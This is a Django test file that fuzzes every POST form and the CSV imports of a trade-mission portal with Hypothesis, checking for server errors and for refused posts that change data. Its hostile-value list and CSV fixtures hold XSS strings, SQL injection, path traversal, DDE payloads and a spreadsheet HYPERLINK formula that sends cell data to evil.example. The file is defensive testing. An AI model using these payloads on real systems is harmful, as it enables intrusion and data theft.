"""Every form of every role, posted with hostile values: never a server error, and a
refused post changes nothing that was stored; what was typed comes back in the form.

For each URL that takes a POST (a test fails if one is not listed here), the form is
read from the page a person would post it from, as that person: its fields, their
values, its buttons. Hypothesis then posts variations of a valid submission: each field
kept, dropped, repeated, or replaced by a hostile value (empty, huge, unicode, NUL,
markup, spreadsheet formulas, numbers and dates out of range, words where numbers are
expected), plus fields nobody asked for. Each post runs in a transaction rolled back
after it, so every example starts from the same data.

A post is *refused* when it answers 4xx, re-renders a form with errors, or redirects
with an error message; then a fingerprint of every table (one query) must be the same
before and after. Sessions and django-axes' records of failed log-ins change by design
and are left out.

``HOSTILE_EXAMPLES`` (default 12) sets the examples per URL; ``make fuzz`` runs 300.
"""

import contextlib
import datetime
import html
import os
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.tokens import default_token_generator
from django.contrib.messages import constants as message_levels
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.urls import get_resolver, resolve, reverse
from django.urls.resolvers import URLResolver
from django.utils import timezone
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts.tests.factories import PASSWORD, StaffFactory
from companies.csv_files import IMPORT_COLUMNS, contact_list_read
from companies.models import Company, Contact, MembershipRole, MembershipStatus
from companies.services import contact_list_import
from companies.tests.factories import (
    CompanyFactory,
    CompanyMemberFactory,
    ContactFactory,
    MembershipFactory,
)
from core.csv_files import csv_text
from delegations.enums import ApplicationStatus
from delegations.tests.factories import ApplicationFactory
from meetings.csv_files import COLUMNS as COUNTERPART_COLUMNS
from meetings.csv_files import counterpart_list_read
from meetings.enums import MeetingRequestStatus, MeetingStatus
from meetings.models import Counterpart
from meetings.services.requests import CounterpartImportError, counterparts_import
from meetings.tests.factories import (
    CounterpartFactory,
    MeetingFactory,
    MeetingGridFactory,
    MeetingRequestFactory,
    MeetingSlotFactory,
)
from meetings.tokens import follow_up_token, meeting_token
from missions.enums import MissionStatus
from missions.tests.factories import (
    MissionFactory,
    OpenMissionFactory,
    ProgrammeItemFactory,
    SectorFactory,
)
from notifications.models import EmailStatus, OutboundEmail
from reports.enums import ReportStatus
from reports.tests.factories import MissionReportFactory

pytestmark = pytest.mark.django_db

EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "12"))

# Tables whose rows change on any request, refused or not, by design.
UNWATCHED_TABLES = {
    "django_session",
    "axes_accessattempt",
    "axes_accessfailurelog",
    "axes_accesslog",
    "django_migrations",
}

# Hostile values ---------------------------------------------------------------------

WORDS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+33 cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1",
    "0",
    "-999999999999999999999",
    "99999999999999999999",
    "2147483648",
    "1e309",
    "NaN",
    "Infinity",
    "1.5",
    "9999-12-31",
    "0001-01-01",
    "2027-02-30",
    "demain",
    "01/08/2027 10:00",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "24:61",
    "../../etc/passwd",
    "'; DROP TABLE missions_mission;--",
    "\u202eevil",
    "😀" * 50,
    "İstanbul",
    "true",
    "[]",
    "{}",
    "%s%s%n",
    "{{ 7|add:7 }}",
    "a" * 100_000,
    "line\r\nbreak",
]

hostile_text = st.one_of(
    st.sampled_from(WORDS),
    st.text(max_size=40),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
)

CSV_FILES = [
    b"",
    bytes(range(256)) * 40,
    b"organisation;kind;contact_name;email\n=cmd|' /C calc'!A0;investor;Jo;jo@x.example\n",
    "company_name;siret;first_name;last_name;email;city\n"
    f"=HYPERLINK(1);73282932000074;Jo;Doe;JO@X.example;{'x' * 200}\n".encode(),
    b"a;b\n" + b"x" * 140_000,
    b"name\r\n\x00\r\n",
]
hostile_file = st.one_of(st.sampled_from(CSV_FILES), st.binary(max_size=2000))


# The forms of a page ------------------------------------------------------------------


@dataclass
class Form:
    action: str
    fields: dict = field(default_factory=dict)  # name -> (kind, [values], multiple)
    buttons: list = field(default_factory=list)  # [(name, value)]
    has_file: bool = False


class FormReader(HTMLParser):
    """The POST forms of a page, with their fields as a browser would send them."""

    def __init__(self, page_url: str):
        super().__init__(convert_charrefs=True)
        self.page_url = page_url
        self.forms: list[Form] = []
        self.form: Form | None = None
        self.select: str | None = None
        self.textarea: str | None = None
        self.outside: list[tuple[str, dict]] = []  # fields with form="id"
        self.ids: dict[str, Form] = {}

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            if (a.get("method") or "get").lower() != "post":
                self.form = None
                return
            self.form = Form(action=a.get("action") or self.page_url)
            self.forms.append(self.form)
            if a.get("id"):
                self.ids[a["id"]] = self.form
            return
        target = self.form
        if a.get("form"):
            self.outside.append((tag, a))
            return
        if target is None or "name" not in a:
            if tag == "option" and self.select and target is not None:
                self._option(target, a)
            return
        self._field(target, tag, a)

    def _field(self, form: Form, tag: str, a: dict):
        name = a["name"]
        if tag == "input":
            kind = (a.get("type") or "text").lower()
            if kind in ("submit", "image"):
                form.buttons.append((name, a.get("value", "")))
                return
            if kind == "file":
                form.has_file = True
            kind_values = form.fields.setdefault(name, [kind, [], False])
            if kind in ("checkbox", "radio"):
                kind_values[2] = kind == "checkbox"
                if "checked" in a:
                    kind_values[1].append(a.get("value", "on"))
                kind_values.append(a.get("value", "on"))
            elif kind != "file":
                kind_values[1].append(a.get("value", ""))
        elif tag == "button":
            if (a.get("type") or "submit").lower() == "submit":
                form.buttons.append((name, a.get("value", "")))
        elif tag == "select":
            form.fields[name] = ["select", [], "multiple" in a]
            self.select = name
        elif tag == "textarea":
            form.fields[name] = ["textarea", [""], False]
            self.textarea = name

    def _option(self, form: Form, a: dict):
        entry = form.fields[self.select]
        value = a.get("value", "")
        entry.append(value)
        if "selected" in a:
            entry[1].append(value)

    def handle_endtag(self, tag):
        if tag == "form":
            self.form = None
        elif tag == "select" and self.form is not None and self.select:
            entry = self.form.fields[self.select]
            if not entry[1] and not entry[2] and len(entry) > 3:
                entry[1].append(entry[3])
            self.select = None
        elif tag == "textarea":
            self.textarea = None

    def handle_data(self, data):
        if self.textarea and self.form is not None:
            self.form.fields[self.textarea][1] = [data.removeprefix("\n")]

    def close(self):
        super().close()
        for tag, a in self.outside:
            form = self.ids.get(a["form"])
            if form is not None and "name" in a:
                self._field(form, tag, a)


def forms_of(content: str, page_url: str) -> list[Form]:
    reader = FormReader(page_url)
    reader.feed(content)
    reader.close()
    return reader.forms


# The world the forms act on ------------------------------------------------------------


@pytest.fixture
def world(db, staff_user, official_user):
    """One of each thing a form acts on, each in the state its form expects."""
    sector = SectorFactory(code="numerique", name_fr="Numérique", name_en="Digital")
    company = CompanyFactory(name="Transpare", verified=True)
    company.sectors.set([sector])
    member = CompanyMemberFactory(
        email="ali@transpare.example", membership__company=company,
        membership__role=MembershipRole.ADMIN,
    )  # fmt: skip
    pending = MembershipFactory(
        company=company, user__email="lea@transpare.example", status=MembershipStatus.PENDING,
        role=MembershipRole.MEMBER,
    )  # fmt: skip
    contact = ContactFactory(company=company, email="ali.contact@transpare.example")
    other = CompanyFactory(name="Protecto", verified=True)
    newcomer = CompanyFactory(name="Calanques", verified=True)

    now = timezone.now()
    open_mission = OpenMissionFactory(title="Canada 2027", slug="canada-2027")
    open_mission.sectors.set([sector])
    item = ProgrammeItemFactory(mission=open_mission)
    draft = ApplicationFactory(
        mission=open_mission, company=company, status=ApplicationStatus.DRAFT,
        announced_status=ApplicationStatus.DRAFT,
    )  # fmt: skip
    submitted = ApplicationFactory(mission=open_mission, company=other)

    selection = OpenMissionFactory(title="Japon 2027", slug="japon-2027")
    accepted = ApplicationFactory(
        mission=selection, company=company, status=ApplicationStatus.ACCEPTED,
        announced_at=now, seat_confirm_by=now + datetime.timedelta(days=7),
    )  # fmt: skip
    overdue = ApplicationFactory(
        mission=selection, company=other, status=ApplicationStatus.ACCEPTED,
        announced_at=now - datetime.timedelta(days=9),
        seat_confirm_by=now - datetime.timedelta(days=2),
    )  # fmt: skip
    ApplicationFactory(
        mission=selection, company=newcomer, status=ApplicationStatus.WAITLISTED,
        announced_status=ApplicationStatus.SUBMITTED,
    )  # fmt: skip

    running = MissionFactory(
        title="Texas 2027", slug="texas-2027", status=MissionStatus.CONFIRMED,
        start_date=timezone.localdate() + datetime.timedelta(days=30),
        end_date=timezone.localdate() + datetime.timedelta(days=33),
    )  # fmt: skip
    confirmed = ApplicationFactory(
        mission=running, company=company, status=ApplicationStatus.CONFIRMED
    )
    counterpart = CounterpartFactory(mission=running, organisation="Maple Ventures")
    CounterpartFactory(mission=running, organisation="Pine Partners")
    asked = MeetingRequestFactory(
        application=confirmed, counterpart=CounterpartFactory(mission=running),
        status=MeetingRequestStatus.REQUESTED,
    )  # fmt: skip
    grid = MeetingGridFactory(mission=running, tables=3)
    day = datetime.datetime.combine(running.start_date, datetime.time(13), tzinfo=datetime.UTC)
    slots = [
        MeetingSlotFactory(grid=grid, starts_at=day + datetime.timedelta(minutes=30 * n))
        for n in range(3)
    ]
    meeting = MeetingFactory(
        request=MeetingRequestFactory(
            application=confirmed, counterpart=counterpart,
            status=MeetingRequestStatus.SCHEDULED,
        ),
        slot=slots[0], status=MeetingStatus.SCHEDULED, invited_at=now,
    )  # fmt: skip
    MeetingFactory(
        request=MeetingRequestFactory(
            application=confirmed, counterpart=CounterpartFactory(mission=running),
            status=MeetingRequestStatus.SCHEDULED,
        ),
        slot=slots[1], table=2, status=MeetingStatus.SCHEDULED,
    )  # fmt: skip

    completed = MissionFactory(
        title="Austin 2026", slug="austin-2026", status=MissionStatus.COMPLETED,
        start_date=datetime.date(2026, 3, 9), end_date=datetime.date(2026, 3, 13),
    )  # fmt: skip
    report = MissionReportFactory(mission=completed, narrative="Five companies met ten buyers.")
    submitted_report = MissionFactory(
        title="Tel-Aviv 2026", slug="tel-aviv-2026", status=MissionStatus.COMPLETED,
        start_date=datetime.date(2026, 5, 4), end_date=datetime.date(2026, 5, 7),
    )  # fmt: skip
    MissionReportFactory(mission=submitted_report, status=ReportStatus.SUBMITTED)
    followed = ApplicationFactory(
        mission=completed, company=company, status=ApplicationStatus.CONFIRMED
    )
    past_meeting = MeetingFactory(
        request=MeetingRequestFactory(
            application=followed, counterpart=CounterpartFactory(mission=completed),
            status=MeetingRequestStatus.SCHEDULED,
        ),
        slot=MeetingSlotFactory(
            grid=MeetingGridFactory(mission=completed),
            starts_at=datetime.datetime(2026, 3, 10, 15, tzinfo=datetime.UTC),
        ),
        status=MeetingStatus.HELD, invited_at=now - datetime.timedelta(days=300),
    )  # fmt: skip
    failed = OutboundEmail.objects.create(
        recipient="ali@transpare.example", language="fr", template_key="password_reset",
        context={"recipient_name": "Ali", "reset_url": "http://testserver/"},
        idempotency_key="failed:1", status=EmailStatus.FAILED, last_error="550 no",
    )  # fmt: skip
    return locals()


@dataclass
class Target:
    """Who posts to a URL, with which arguments, from which page."""

    role: str
    kwargs: object = None  # world -> URL kwargs
    page: object = None  # world -> the address of the page holding the form
    valid: object = None  # world -> values that pass, to reach beyond the first check
    query: object = None  # world -> the query string the page is opened with


def mission_slug(key):
    return lambda w: {"slug": w[key].slug}


def pk_of(key, name="pk"):
    return lambda w: {name: w[key].pk}


def page(name, kwargs=None):
    """The page a POST-only URL's form sits on."""
    return lambda w: reverse(name, kwargs=kwargs(w) if kwargs else {})


def values(**fields):
    return lambda w: {
        key: (value(w) if callable(value) else value) for key, value in fields.items()
    }


FUTURE = (timezone.localdate() + datetime.timedelta(days=200)).isoformat()
NEW_PASSWORD = "Another-horse-42"
PROGRAMME_ITEM = lambda w: {"slug": w["open_mission"].slug, "pk": w["item"].pk}  # noqa: E731
CONTACT = lambda w: {"pk": w["company"].pk, "contact_pk": w["contact"].pk}  # noqa: E731
PENDING = lambda w: {"pk": w["company"].pk, "membership_pk": w["pending"].pk}  # noqa: E731
RUNNING = pk_of("running", "mission_pk")
GRID = page("meetings:grid", RUNNING)

TARGETS = {
    "login": Target(
        "anonymous", valid=values(username="ali@transpare.example", password=PASSWORD)
    ),
    "logout": Target("member", page=page("home")),
    "password_reset": Target("anonymous", valid=values(email="ali@transpare.example")),
    "password_change": Target(
        "member",
        valid=values(
            old_password=PASSWORD, new_password1=NEW_PASSWORD, new_password2=NEW_PASSWORD
        ),
    ),
    "password_reset_confirm": Target("anonymous"),
    "set_language": Target("member", page=page("home")),
    "missions:create": Target(
        "staff",
        valid=values(
            title="Maroc 2027",
            country="MA",
            cities="Casablanca",
            start_date=FUTURE,
            end_date=FUTURE,
            capacity="10",
            sectors=lambda w: [str(w["sector"].pk)],
        ),
    ),
    "missions:edit": Target("staff", mission_slug("open_mission")),
    "missions:transition": Target(
        "staff",
        mission_slug("open_mission"),
        page=page("missions:detail", mission_slug("open_mission")),
    ),
    "missions:duplicate": Target(
        "staff",
        mission_slug("open_mission"),
        page=page("missions:detail", mission_slug("open_mission")),
    ),
    "reports:report_edit": Target("staff", mission_slug("completed")),
    "reports:report_transition": (
        Target(
            "staff",
            mission_slug("completed"),
            page=page("reports:report", mission_slug("completed")),
        ),
        Target(
            "official",
            mission_slug("submitted_report"),
            page=page("reports:report", mission_slug("submitted_report")),
            valid=values(comment="Add the figures of the second day."),
        ),
    ),
    "missions:programme_add": Target(
        "staff",
        mission_slug("open_mission"),
        valid=values(
            kind="networking",
            title="Cocktail",
            starts_at=f"{FUTURE}T18:00",
            ends_at=f"{FUTURE}T20:00",
        ),
    ),
    "missions:programme_edit": Target("staff", PROGRAMME_ITEM),
    "missions:programme_delete": Target("staff", PROGRAMME_ITEM),
    "companies:import": Target("staff"),
    "companies:signup": Target(
        "anonymous",
        valid=values(
            first_name="Zoé",
            last_name="Martin",
            email="zoe@calanques.example",
            password1=NEW_PASSWORD,
            password2=NEW_PASSWORD,
            company_name="Calanques",
            siret="35600000000048",
            city="Cassis",
        ),
    ),
    "companies:edit": Target("member", pk_of("company")),
    "companies:verify": Target(
        "staff", pk_of("other"), page=page("companies:detail", pk_of("other"))
    ),
    "companies:contact_add": Target(
        "member",
        pk_of("company"),
        valid=values(
            first_name="Jo", last_name="Doe", email="jo@transpare.example", language="fr"
        ),
    ),
    "companies:contact_edit": Target("member", CONTACT),
    "companies:contact_delete": Target("member", CONTACT),
    "companies:membership_approve": Target(
        "member", PENDING, page=page("companies:detail", pk_of("company"))
    ),
    "companies:membership_refuse": Target(
        "member", PENDING, page=page("companies:detail", pk_of("company"))
    ),
    "delegations:application_start": Target(
        "newcomer_member",
        pk_of("open_mission", "mission_pk"),
        page=page("missions:detail", mission_slug("open_mission")),
    ),
    "delegations:application_edit": Target("member", pk_of("draft")),
    "delegations:application_confirm": Target("member", pk_of("accepted")),
    "delegations:application_withdraw": Target("member", pk_of("draft")),
    "delegations:announce": Target("staff", pk_of("selection", "mission_pk")),
    "delegations:assess": Target(
        "staff",
        pk_of("submitted"),
        page=page("delegations:review_application", pk_of("submitted")),
    ),
    "delegations:decide": Target(
        "staff",
        pk_of("submitted"),
        page=page("delegations:review_application", pk_of("submitted")),
    ),
    "delegations:release": Target(
        "staff",
        pk_of("overdue"),
        page=page("delegations:review_application", pk_of("overdue")),
    ),
    "meetings:counterpart_add": Target(
        "staff",
        RUNNING,
        valid=values(
            organisation="Lake Capital",
            kind="investor",
            contact_name="Paul",
            email="paul@lake.example",
            language="en",
        ),
    ),
    "meetings:counterpart_edit": Target("staff", pk_of("counterpart")),
    "meetings:counterparts_import": Target("staff", RUNNING),
    "meetings:request_add": Target("staff", RUNNING),
    "meetings:request_qualify": Target("staff", pk_of("asked")),
    "meetings:request_decline": Target("staff", pk_of("asked")),
    "meetings:company_requests": Target("member", pk_of("confirmed")),
    "meetings:company_request_delete": Target(
        "member", pk_of("asked"), page=page("meetings:company_requests", pk_of("confirmed"))
    ),
    "meetings:grid_configure": Target("staff", RUNNING),
    "meetings:grid_unavailability": Target(
        "staff", RUNNING, query=lambda w: f"participant=a{w['confirmed'].pk}"
    ),
    "meetings:grid_schedule": Target("staff", RUNNING, page=GRID),
    "meetings:meeting_move": Target("staff", pk_of("meeting")),
    "meetings:meeting_lock": Target("staff", pk_of("meeting"), page=GRID),
    "meetings:meetings_invite": Target("staff", RUNNING),
    "meetings:requests": Target("staff", RUNNING),
    "delegations:review": Target("staff", pk_of("open_mission", "mission_pk")),
    "meetings:meeting_respond": Target(
        "anonymous", lambda w: {"token": meeting_token(w["meeting"], "answer")}
    ),
    "meetings:counterpart_feedback": Target(
        "anonymous", lambda w: {"token": meeting_token(w["past_meeting"], "feedback")}
    ),
    "meetings:meeting_outcome": Target("staff", pk_of("past_meeting")),
    "meetings:follow_up": Target(
        "anonymous", lambda w: {"token": follow_up_token(w["followed"])}
    ),
    "campaigns:resend": Target(
        "staff", pk_of("failed"), page=page("campaigns:email", pk_of("failed"))
    ),
    "campaigns:campaign_new": Target(
        "staff", query=lambda w: f"mission={w['open_mission'].slug}"
    ),
}


def post_urls() -> set[str]:
    """The names of the portal's URLs whose views take a POST (the admin is Django's)."""
    names = set()

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                if pattern.namespace == "admin":
                    continue
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
                continue
            view = getattr(pattern.callback, "view_class", None)
            takes_post = (
                hasattr(view, "post") and "post" in view.http_method_names
                if view
                else pattern.callback.__name__ == "set_language"
            )
            if takes_post and pattern.name:
                names.add(namespace + pattern.name)

    walk(get_resolver().url_patterns)
    return names


CASES = [
    (name, index, target)
    for name, targets in sorted(TARGETS.items())
    for index, target in enumerate(targets if isinstance(targets, tuple) else (targets,))
]


def test_every_form_of_the_portal_is_explored():
    assert sorted(post_urls() - set(TARGETS)) == []
    assert sorted(set(TARGETS) - post_urls()) == []


# Fingerprint of the stored data ----------------------------------------------------------


def _fingerprint_query() -> str:
    with connection.cursor() as cursor:
        tables = sorted(set(connection.introspection.table_names(cursor)) - UNWATCHED_TABLES)
    parts = [  # table names from the database itself
        f"SELECT '{table}', md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) "  # noqa: S608
        f'FROM "{table}" t'
        for table in tables
    ]
    return " UNION ALL ".join(parts)


def fingerprint(query: str) -> dict[str, str]:
    with connection.cursor() as cursor:
        cursor.execute(query)
        return dict(cursor.fetchall())


# The exploration ---------------------------------------------------------------------


def _client_for(role, world, client):
    people = {
        "staff": world["staff_user"],
        "official": world["official_user"],
        "member": world["member"],
        "newcomer_member": None,
    }
    if role == "newcomer_member":
        people[role] = CompanyMemberFactory(
            email="jo@calanques.example", membership__company=world["newcomer"]
        )
    if role != "anonymous":
        client.force_login(people[role])
    return client


def _form_for(name, target, world, client) -> tuple[str, Form]:
    """The address to post to, and the form a person would post there."""
    if name == "password_reset_confirm":
        user = world["member"]
        uid = urlsafe_base64_encode(force_bytes(user.pk))
        token = default_token_generator.make_token(user)
        response = client.get(reverse(name, kwargs={"uidb64": uid, "token": token}))
        url = response["Location"]
    else:
        url = reverse(name, kwargs=target.kwargs(world) if target.kwargs else {})
    if target.query:
        url = f"{url}?{target.query(world)}"
    page_url = target.page(world) if target.page else url
    response = client.get(page_url, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200, (page_url, response.status_code)
    path = urlsplit(url).path
    for form in forms_of(response.content.decode(), page_url):
        if urlsplit(form.action).path == path:
            return form.action, form
    raise AssertionError(f"No form on {page_url} posts to {path}")


def _choices(entry) -> list[str]:
    return [value for value in entry[3:] if value != ""]


@st.composite
def submissions(draw, form: Form, valid: dict):
    """A browser's submission of ``form`` (its values, ``valid`` over them), varied."""
    data = {}
    for name, entry in form.fields.items():
        kind, values, multiple = entry[0], entry[1], entry[2]
        base = valid.get(name, values if multiple else (values[0] if values else ""))
        choice = draw(st.sampled_from(["keep", "keep", "keep", "hostile", "drop", "many"]))
        if kind == "file":
            data[name] = SimpleUploadedFile("list.csv", draw(hostile_file), "text/csv")
        elif choice == "keep":
            if kind in ("select", "checkbox", "radio") and not base and _choices(entry):
                base = [draw(st.sampled_from(_choices(entry)))] if multiple else ""
            data[name] = base
        elif choice == "hostile":
            data[name] = draw(hostile_text)
        elif choice == "many":
            data[name] = [draw(hostile_text), draw(hostile_text)]
    for name in valid.keys() - form.fields.keys():
        data[name] = valid[name]
    if form.buttons:
        button, value = draw(st.sampled_from(form.buttons))
        data[button] = draw(st.one_of(st.just(value), hostile_text))
    if draw(st.booleans()):
        data[draw(st.sampled_from(["extra", "id", "pk", "status", "company", "is_staff"]))] = draw(
            hostile_text
        )
    return data


def _context_values(response) -> list:
    contexts = response.context or []
    if not isinstance(contexts, list):
        contexts = [contexts]
    return [value for context in contexts for value in context.flatten().values()]


def forget_messages(client) -> None:
    """Messages left unread by an earlier post (cookie or session) are dropped."""
    client.cookies.pop("messages", None)
    if "_messages" in client.session:
        session = client.session
        del session["_messages"]
        session.save()


def refused(response) -> bool:
    """The post was turned down as a whole: nothing may have changed. A page that says
    something was done (a success, or a warning such as "your draft is saved, but not
    submitted") is not a refusal."""
    if response.status_code >= 400:
        return True
    storage = getattr(response.wsgi_request, "_messages", None)
    # This request's messages only: the client starts each post with none (see forget_messages).
    queued = [*getattr(storage, "_loaded_messages", []), *getattr(storage, "_queued_messages", [])]
    if any(
        message.level in (message_levels.SUCCESS, message_levels.WARNING) for message in queued
    ):
        return False
    if response.status_code == 200:
        values = _context_values(response)
        return any(
            (hasattr(value, "non_form_errors") and value.total_error_count())
            or (hasattr(value, "is_bound") and hasattr(value, "errors") and value.errors)
            for value in values
        ) or any(
            isinstance(value, list) and value and hasattr(value[0], "line") for value in values
        )
    if response.status_code in (301, 302, 303):
        return any(message.level >= message_levels.ERROR for message in queued)
    return False


TYPED_KINDS = {"text", "email", "search", "tel", "url", "textarea"}
PLAIN = re.compile(r"[\w .,'@-]{1,60}")


def assert_typed_values_kept(response, form: Form, data: dict):
    """A refused form comes back with what was typed in its text fields."""
    content = response.content.decode()
    for name, value in data.items():
        entry = form.fields.get(name)
        if entry is None or entry[0] not in TYPED_KINDS or "password" in name:
            continue
        if not isinstance(value, str) or not PLAIN.fullmatch(value):
            continue
        if f'name="{name}"' not in content:
            continue
        assert html.escape(value) in content, (name, value)


@pytest.mark.parametrize(
    ("name", "target"),
    [(name, target) for name, _index, target in CASES],
    ids=[f"{name}-{target.role}" for name, _index, target in CASES],
)
def test_hostile_posts_never_fail_and_refusals_change_nothing(
    name, target, world, client, settings
):
    settings.LANGUAGE_CODE = "en"
    client = _client_for(target.role, world, client)
    url, form = _form_for(name, target, world, client)
    valid = target.valid(world) if target.valid else {}
    query = _fingerprint_query()

    @settings_for_this_test
    @given(data=submissions(form, valid))
    def explore(data):
        forget_messages(client)
        with transaction.atomic():
            before = fingerprint(query)
            response = client.post(url, data, HTTP_ACCEPT_LANGUAGE="en")
            assert response.status_code < 500, response.status_code
            if refused(response):
                assert fingerprint(query) == before, f"a refused post to {url} changed data"
                if response.status_code == 200:
                    assert_typed_values_kept(response, form, data)
            transaction.set_rollback(True)

    explore()


settings_for_this_test = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.function_scoped_fixture,
        HealthCheck.data_too_large,
    ],
    database=None,
)


def test_the_reader_finds_the_fields_of_a_form():
    content = """
      <form method="post" action="/x/" id="f">
        <input type="hidden" name="csrfmiddlewaretoken" value="t">
        <input name="title" value="Canada">
        <select name="kind"><option value="">-</option><option value="a" selected>A</option>
        </select>
        <select name="sectors" multiple><option value="1">1</option><option value="2">2</option>
        </select>
        <textarea name="notes">
Hello</textarea>
        <input type="checkbox" name="verified" value="on" checked>
        <button type="submit" name="action" value="save">Save</button>
      </form>
      <input name="outside" form="f" value="o">
      <form method="get" action="/search/"><input name="q"></form>
    """
    [form] = forms_of(content, "/page/")

    assert form.action == "/x/"
    assert {name: entry[1] for name, entry in form.fields.items()} == {
        "csrfmiddlewaretoken": ["t"],
        "title": ["Canada"],
        "kind": ["a"],
        "sectors": [],
        "notes": ["Hello"],
        "verified": ["on"],
        "outside": ["o"],
    }
    assert form.buttons == [("action", "save")]
    assert resolve("/").url_name == "home"


# The imports, cell by cell --------------------------------------------------------------

# Mostly values the reader accepts, so that many files reach the database.
SIRETS = ["73282932000074", "35600000000048", " 7328 2932 000074 ", "12345678901234"]
EMAILS = ["jo@x.example", "JO@X.example", "zoé@x.example", "a" * 250 + "@x.example", "pine@"]
NAMES = ["Jo", "=HYPERLINK(1)", "Zoé", "<b>x</b>", "a" * 101]
# Just over the lengths the columns hold (30, 100, 150, 200, 254, 300 characters).
OVER_LIMITS = ["x" * n for n in (31, 101, 151, 201, 255, 301)]
SHORT_VALUES = ["", "Jo", "Marseille", "+33 4 91 00 00 00", "=1+1", "<i>x</i>", "Zoé", "İ"]
# A cell of a file that is CSV text (files that are not are refused whole, see core).
cell_text = st.one_of(
    *[st.sampled_from(SHORT_VALUES)] * 3,
    st.text(alphabet=st.characters(exclude_categories=("Cc", "Cs")), max_size=30),
    st.sampled_from(OVER_LIMITS),
)


def _cells(columns, choices):
    """A row: the columns with a set of choices (valid or not) take one, the others any
    text, so that many rows pass the reader and reach the database."""
    return st.fixed_dictionaries(
        {
            column: st.sampled_from(choices[column]) if column in choices else cell_text
            for column in columns
        }
    )


def _rows_file(columns, rows) -> bytes:
    return csv_text(columns, [[row[column] for column in columns] for row in rows]).encode()


# Files are cheap to read: 25 times the examples of a form.
import_settings = settings(settings_for_this_test, max_examples=EXAMPLES * 25)

CONTACT_CHOICES = {
    "siret": SIRETS,
    "email": EMAILS,
    "language": ["fr", "en", "EN", "", "de"],
    "sectors": ["numerique", "", "numerique|x"],
    "first_name": NAMES,
    "last_name": NAMES,
    "company_name": NAMES,
}
COUNTERPART_CHOICES = {
    "email": EMAILS,
    "kind": ["investor", "bank"],
    "language": ["en", "fr", ""],
    "organisation": ["Maple", "maple", "a" * 201],
    "contact_name": NAMES,
}


@import_settings
@given(st.lists(_cells(IMPORT_COLUMNS, CONTACT_CHOICES), min_size=1, max_size=3))
def test_a_contact_list_the_reader_accepts_is_imported_without_a_database_error(rows):
    with transaction.atomic():
        staff = StaffFactory()
        SectorFactory(code="numerique")
        read, errors = contact_list_read(_rows_file(IMPORT_COLUMNS, rows))
        if not errors:
            contact_list_import(rows=read, by=staff)
        transaction.set_rollback(True)


@import_settings
@given(st.lists(_cells(COUNTERPART_COLUMNS, COUNTERPART_CHOICES), min_size=1, max_size=3))
def test_a_counterpart_list_the_reader_accepts_is_imported_without_a_database_error(rows):
    with transaction.atomic():
        staff = StaffFactory()
        mission = MissionFactory()
        read, errors = counterpart_list_read(_rows_file(COUNTERPART_COLUMNS, rows))
        if not errors:
            with contextlib.suppress(CounterpartImportError):
                counterparts_import(mission=mission, rows=read, by=staff)
        transaction.set_rollback(True)


def _valid_contact_row() -> dict:
    return {"company_name": "Transpare", "siret": "73282932000074", "city": "Marseille",
            "sectors": "", "first_name": "Jo", "last_name": "Doe", "email": "jo@x.example",
            "language": "fr", "job_title": "", "phone": ""}  # fmt: skip


def _column_limits(model, columns) -> dict[str, int]:
    fields = {
        field.name: field for field in model._meta.get_fields() if hasattr(field, "max_length")
    }
    return {column: fields[column].max_length for column in columns
            if column in fields and fields[column].max_length}  # fmt: skip


@pytest.mark.parametrize(
    "column",
    sorted(
        _column_limits(Company, ["city"])
        | _column_limits(Contact, IMPORT_COLUMNS)
        | {"company_name": Company._meta.get_field("name").max_length}
    ),
)
def test_the_contact_reader_refuses_any_cell_longer_than_its_column(db, column):
    limit = (
        _column_limits(Company, ["city"])
        | _column_limits(Contact, IMPORT_COLUMNS)
        | {"company_name": Company._meta.get_field("name").max_length}
    )[column]
    row = _valid_contact_row()
    if column == "email":
        row["email"] = "x" * (limit - len("@x.example") + 1) + "@x.example"
    else:
        row[column] = "x" * (limit + 1)

    _rows, errors = contact_list_read(_rows_file(IMPORT_COLUMNS, [row]))

    assert [error.column for error in errors] == [column]


@pytest.mark.parametrize("column", sorted(_column_limits(Counterpart, COUNTERPART_COLUMNS)))
def test_the_counterpart_reader_refuses_any_cell_longer_than_its_column(db, column):
    limit = _column_limits(Counterpart, COUNTERPART_COLUMNS)[column]
    row = {"organisation": "Maple", "kind": "investor", "sectors": "", "city": "Toronto",
           "contact_name": "Jane", "email": "jane@maple.example", "language": "en",
           "description": "", "interests": ""}  # fmt: skip
    if column == "email":
        row["email"] = "x" * (limit - len("@x.example") + 1) + "@x.example"
    else:
        row[column] = "x" * (limit + 1)

    _rows, errors = counterpart_list_read(_rows_file(COUNTERPART_COLUMNS, [row]))

    assert column in [error.column for error in errors]
